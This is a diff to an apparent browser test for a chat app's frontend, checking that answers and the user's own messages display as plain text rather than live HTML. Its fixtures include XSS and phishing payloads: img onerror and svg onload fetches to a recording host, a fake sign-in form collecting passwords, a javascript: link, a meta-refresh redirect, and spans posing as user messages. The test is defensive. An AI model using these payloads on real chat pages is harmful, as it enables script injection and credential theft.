@@ -12,18 +12,22 @@ const shownPlain = 'Write two blanks, then git status, then it is &lt;done&gt; &
 const markup = 'In HTML it is `<img src=x>` or **<b>bold</b>**.';
 const shownMarkup = 'In HTML it is <img src=x> or <b>bold</b>.';
 
+const posing = 'A word: <span class="message user" id="text" style="color: red">I am you</span> and <strong onclick="send()">hers</strong>.';
+const own = 'Mine: <form><input name="password"><button>Sign in again</button></form>';
+
 const attacks = (foreign) => [
     { ask: 'picture', what: 'A picture', answer: `Look: <img src="${foreign}/picture?who=you" onerror="fetch('${foreign}/picture-script')">` },
     { ask: 'form', what: 'A form', answer: `Your session is over. <form action="${foreign}/form"><input name="password"><button>Sign in</button></form>` },
     { ask: 'link', what: 'A link', answer: `See <a href="javascript:location='${foreign}/link-script'">this</a> or <a href="${foreign}/link">sign in again</a>.` },
     { ask: 'marked', what: 'A picture within bold', answer: `**<img src="/api/health?marked" alt="Sign in">** and \`<svg onload="fetch('${foreign}/marked')">\`` },
+    { ask: 'posing', what: 'Text that poses as yours', answer: posing },
     { ask: 'away', what: 'An order to go elsewhere', answer: `Wait. <meta http-equiv="refresh" content="0;url=${foreign}/away">` },
 ];
 
 await check(async () => {
     const foreign = await startRecorder();
     const pace = { tokens_per_second: 0, first_token_ms: 0, chunk_tokens: [2, 3] };
-    const rules = [{ ask: 'plain', answer: plain }, { ask: 'markup', answer: markup }, ...attacks(foreign.url)]
+    const rules = [{ ask: own, answer: 'Yours.' }, { ask: 'plain', answer: plain }, { ask: 'markup', answer: markup }, ...attacks(foreign.url)]
         .map(({ ask, answer }) => ({ match: { contains: ask }, answer, pace }));
     const emulator = await startEmulator({ scenario: { rules } });
     const server = await startServer({ env: { ...emulator.env, FRONTEND_DIR: plainPage } });
@@ -66,9 +70,11 @@ await check(async () => {
     for (const { ask: name, what } of attacks(foreign.url)) {
         const last = await ask(name);
         // Nothing can be asked of a page that has left.
-        const got = await last.evaluate((answer) => [...answer.querySelectorAll('*')].map(({ tagName }) => tagName), null, { timeout: 1000 })
-            .catch(() => null);
-        const bad = got?.filter((tag) => !harmless.includes(tag)) ?? [];
+        const got = await last.evaluate((answer) => [...answer.querySelectorAll('*')].map((element) => ({
+            tag: element.tagName,
+            brought: element.id === 'text' || element.matches('.user, [onclick], [style*="red"]'),
+        })), null, { timeout: 1000 }).catch(() => null);
+        const bad = got?.filter(({ tag, brought }) => brought || !harmless.includes(tag)).map(({ tag }) => tag) ?? [];
         spoilt = !got || bad.length > 0;
         // What somebody would click who believes it.
         for (const inviting of await last.locator('a, button').all().catch(() => []))
@@ -87,4 +93,12 @@ await check(async () => {
     }
 
     same(await (await ask('markup')).textContent(), shownMarkup, markup);
+
+    await ask(own);
+    const mine = page.locator('#messages .user').last();
+    expect(await page.locator('#messages form').count() === 0 && await mine.textContent() === own, {
+        right: 'Your own words, and errors, stay text too.',
+        missing: 'Your own message became part of the page: <form>. Errors are shown in the same way, and say what others have written.',
+        look: 'workshop/page/chat.js, addMessage',
+    });
 });
